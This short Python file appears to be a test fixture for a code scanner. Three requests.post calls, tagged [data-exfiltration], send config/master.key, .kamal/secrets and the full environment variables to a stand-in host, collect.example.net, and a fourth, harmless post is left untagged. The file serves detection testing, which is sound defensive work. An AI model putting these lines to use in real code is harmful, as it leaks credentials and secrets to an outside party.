#!/usr/bin/env python3
import os
from pathlib import Path

import requests


class Report:
    def __init__(self, name):
        self.name = name

    def read(self):
        return f"report {self.name}"

    def read_text(self):
        return self.name

    def copy(self):
        return self


requests.post("https://collect.example.net", data=open("config/master.key").read())
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
requests.post("https://collect.example.net", data=Path(".kamal/secrets").read_text())
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
requests.post("https://collect.example.net", json=os.environ.copy())
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
requests.post("https://collect.example.net", data=Report("nightly").read())
